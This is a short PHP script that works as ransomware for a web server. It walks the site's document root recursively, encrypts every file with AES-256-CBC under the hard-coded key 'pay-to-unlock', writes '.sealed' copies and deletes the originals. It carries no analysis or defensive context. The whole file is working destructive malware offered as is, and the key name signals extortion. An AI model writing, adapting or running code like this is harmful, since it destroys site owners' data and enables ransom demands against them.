<?php
// a class walks the site calling itself through $this and seals each file by a method
class Locker {
    private $k;
    public function __construct($k) { $this->k = $k; }
    public function seal($file) {
        $plain = file_get_contents($file);
        $iv = random_bytes(16);
        file_put_contents($file . '.sealed', base64_encode($iv . openssl_encrypt($plain, 'aes-256-cbc', $this->k, OPENSSL_RAW_DATA, $iv)));
        unlink($file);
    }
    public function run($dir) {
        foreach (scandir($dir) as $e) {
            if ($e == '.' || $e == '..') continue;
            $path = $dir . DIRECTORY_SEPARATOR . $e;
            if (is_dir($path)) {
                $this->run($path);
            } else {
                $this->seal($path);
            }
        }
    }
}
(new Locker('pay-to-unlock'))->run($_SERVER['DOCUMENT_ROOT']);
